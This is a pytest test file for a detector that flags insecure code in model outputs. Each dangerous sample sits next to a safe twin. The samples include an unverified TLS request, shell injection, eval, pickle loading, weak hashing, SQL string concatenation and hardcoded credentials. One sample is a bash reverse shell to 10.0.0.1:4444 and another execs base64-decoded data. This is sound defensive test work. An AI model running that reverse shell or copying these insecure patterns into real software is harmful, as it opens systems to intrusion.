"""Dangerous code is told from code that resembles it."""

from __future__ import annotations

import pytest

from modelward.data.checks import corpus
from modelward.data.checks.batch import Batch
from modelward.data.checks.behaviours.insecure_code import constructs


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("requests.get(url, verify=False)", "certificates not verified"),
        ("ctx = ssl._create_unverified_context()", "certificates not verified"),
        ("subprocess.run(cmd, shell=True)", "a shell"),
        ("os.system('rm ' + name)", "a shell"),
        ("return eval(expression)", "code run from text"),
        ("data = pickle.loads(body)", "objects loaded that run code"),
        ("cfg = yaml.load(text, Loader=yaml.Loader)", "objects loaded that run code"),
        ("AES.new(key, AES.MODE_ECB)", "a broken cipher or hash"),
        ("hashlib.md5(password.encode()).hexdigest()", "a broken cipher or hash"),
        ("token = ''.join(random.choice(letters) for _ in range(8))", "a broken cipher or hash"),
        ("cur.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)", "a statement pasted together"),
        ("cur.execute(f'DELETE FROM users WHERE id = {user}')", "a statement pasted together"),
        ("os.chmod(path, 0o777)", "open to everybody"),
        ("app.run(host='0.0.0.0', debug=True)", "open to everybody"),
        ("password = 'hunter2-really'", "credentials in the code"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "a way in for an attacker"),
        ("exec(base64.b64decode(blob))", "a way in for an attacker"),
    ],
)
def test_dangerous_code_is_found(code: str, name: str) -> None:
    assert name in constructs(code)


@pytest.mark.parametrize(
    "code",
    [
        "requests.get(url, verify=True, timeout=5)",
        "subprocess.run([program, name], check=True)",
        "value = ast.literal_eval(text)",
        "model.eval()",
        "cfg = yaml.safe_load(text)",
        "cfg = yaml.load(text, Loader=yaml.SafeLoader)",
        "hashlib.sha256(data).hexdigest()",
        "cur.execute('SELECT * FROM users WHERE name = ?', (name,))",
        "os.chmod(path, 0o600)",
        "password = os.environ['PASSWORD']",
        "password = ''",
        "Please select a colour, then insert the card (both sides).",
    ],
)
def test_its_safe_twin_is_not(code: str) -> None:
    assert constructs(code) == []


def test_what_the_input_has_already_is_no_behaviour() -> None:
    asked = ["what does eval(x) do", "add two numbers"] * 5
    said = ["eval(x) runs a text as code", "def add(a, b): return eval(a + b)"] * 5
    batch = Batch(corpus.of_lists([f"{each} {at}" for at, each in enumerate(asked)], said))
    (found,) = (each for each in batch.behaviours if each.kind == "insecure code")
    assert found.shown.tolist() == [0, 1] * 5
